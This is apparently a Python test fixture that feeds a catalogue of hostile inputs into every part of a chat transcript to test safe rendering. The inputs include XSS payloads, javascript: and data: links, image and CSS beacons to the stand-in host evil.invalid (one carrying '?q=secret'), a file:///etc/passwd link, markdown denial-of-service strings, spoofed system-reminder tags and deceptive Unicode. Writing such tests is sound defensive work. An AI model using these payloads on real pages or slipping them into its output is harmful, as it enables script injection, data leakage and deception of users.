"""Text that tries to run, load or deceive, and conversations that say it in every place where something can be said."""

from __future__ import annotations

import cannery
from cannery.messages import (
    AnyCanister,
    AssistantCanisterClass,
    Citation,
    DocumentCanisterClass,
    FileContentClass,
    ImageContentClass,
    Location,
    OpaqueContentClass,
    PartsContentClass,
    ReasoningContentClass,
    RefusalContentClass,
    ResultCanisterClass,
    SupervisorCanisterClass,
    TextualContentClass,
    UserCanisterClass,
)

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HOST = "http://evil.invalid"
ATTACKS = (
    # Scripts and handlers
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    f'<img src="{HOST}/pixel.png">',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    f'<object data="{HOST}/x.swf"></object><embed src="{HOST}/x">',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    f'<base href="{HOST}/"><a href="x">y</a>',
    f'<meta http-equiv="refresh" content="0;url={HOST}/">',
    f'<link rel="stylesheet" href="{HOST}/x.css">',
    '<a id="content" name="body"></a><img name="getElementById">',
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001 - full-width brackets
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # URLs
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](/ui/c/x/delete)",
    "[click](//evil.invalid/x)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[x](https://a.invalid "onclick=alert(1)")',
    "[x](https://a.invalid/\"onmouseover='alert(1)')",
    # Images that would tell somebody
    f"![pixel]({HOST}/pixel.png)",
    f"![pixel]({HOST}/?q=secret 'title')",
    "![x](javascript:alert(1))",
    f"[![nested]({HOST}/pixel.png)](https://a.invalid)",
    f"![x][r]\n\n[r]: {HOST}/pixel.png",
    # CSS
    f"<style>*{{background:url({HOST}/x)}}</style>",
    f'<p style="background:url({HOST}/x);position:fixed;inset:0">over everything</p>',
    "<div class='bar' id='search'>fake</div>",
    # Markdown tricks
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "<https://a.invalid/<script>alert(1)</script>>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | ![p](http://evil.invalid/p) |",
    "> " * 3000 + "deep",
    "* " * 2000 + "deep",
    "[" * 4000 + "x" + "](y)" * 400,
    "**" * 5000,
    "`" * 3001 + "x" + "`" * 3000,
    "|a" * 900 + "|\n" + "|-" * 900 + "|\n" + ("|b" * 900 + "|\n") * 30,
    "|a" * 100_000 + "|\n" + "|-" * 100_000 + "|\n" + "|b" * 100_000 + "|",
    "# " * 500 + "heading " * 500,
    "[^1]: note\n\n[^1]" * 300,
    "1. " * 900 + "deep",
    "- [x] done\n" * 900,
    "[a](<javascript:alert(1)>) [b](\x01javascript:alert(1)) [c](javascript&colon;alert(1))",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[a](data:text/html,<script>alert(1)</script>) [b](blob:http://a.invalid/x) [c](about:blank)",
    "[a](http://a.invalid\\@evil.invalid) [b](https://user:pass@evil.invalid/)",
    "\\<script>alert(1)\\</script> \\[x\\](javascript:alert(1))",
    "<!--\n<script>alert(1)</script>\n-->",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "$\\href{javascript:alert(1)}{x}$ $$\\unicode{x3c}script$$",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "~~~~~~~html\n</code></pre><script>alert(1)</script>\n~~~~~~~",
    f"<{HOST}/pixel.png> {HOST}/pixel.png www.evil.invalid",
    # Text that deceives
    "\u202e" * 300 + "txt.exe \u2067" * 50,
    "abc\u200b\u200c\u200d\u2060\ufeff\u00addef",
    "w" * 9_000 + "\u200f" + "w" * 9_000,
    "user \u202egnp.exe",
    "\u2066hidden\u2069 \u202dforced\u202c",
    "zalgo " + "a" + "\u0301" * 500,
    "\x1b[31mred\x1b[0m \x07 \x08\x08",
    "\U000e0041\U000e0042 tags",
    "half a pair \ufffd",
    "x" * 30_000,
    # Documents of our own
    '<template><script>alert(1)</script></template><slot name="x">',
    '{"__proto__": {"x": 1}, "constructor": "</script><script>alert(1)</script>"}',
)


def hostile_conversation(attack: str) -> list[AnyCanister]:
    """An attack wherever something can be said."""
    text = TextualContentClass(
        attack,
        citations=[
            Citation("anthropic_messages", "{}", f"javascript:{attack[:50]}", attack, attack)
        ],
    )
    name = attack.replace("\x00", "") or "x"
    return [
        SupervisorCanisterClass(TextualContentClass(attack)),
        DocumentCanisterClass(TextualContentClass(attack), title=name),
        UserCanisterClass(TextualContentClass(attack)),
        UserCanisterClass(
            TextualContentClass(f"<system-reminder>\n{attack}\n</system-reminder>\n{attack}")
        ),
        UserCanisterClass(ImageContentClass(SVG, "image/svg+xml")),
        UserCanisterClass(ImageContentClass(SVG, "image/png")),
        UserCanisterClass(
            ImageContentClass(
                location=Location("url", f"{HOST}/{name[:50]}"), mime_type="image/png"
            )
        ),
        UserCanisterClass(FileContentClass(SVG, "text/html", name=name[:200], context=attack)),
        AssistantCanisterClass(ReasoningContentClass(attack)),
        AssistantCanisterClass(text),
        AssistantCanisterClass(RefusalContentClass(attack)),
        AssistantCanisterClass(
            OpaqueContentClass(
                "openai_responses", name[:50], '{"html": "<script>alert(1)</script>"}'
            )
        ),
        cannery.invocation(
            "call_1",
            name[:300],
            {"file_path": attack[:500], "old_string": attack, "new_string": "b"},
        ),
        cannery.invocation("call_2", "shell", {"command": attack, attack[:200] or "k": attack}),
        cannery.invocation("call_3", "patch", {"patch": f"*** Begin Patch\n+{attack}\n-{attack}"}),
        cannery.invocation("call_4", "write", {"path": "x.html", "content": attack}),
        cannery.result("call_1", attack),
        ResultCanisterClass("call_2", TextualContentClass(attack), error=name[:300]),
        ResultCanisterClass(
            "call_3",
            PartsContentClass([TextualContentClass(attack), ImageContentClass(SVG, "image/webp")]),
        ),
        cannery.result("call_9", attack),
        cannery.assistant(attack),
    ]
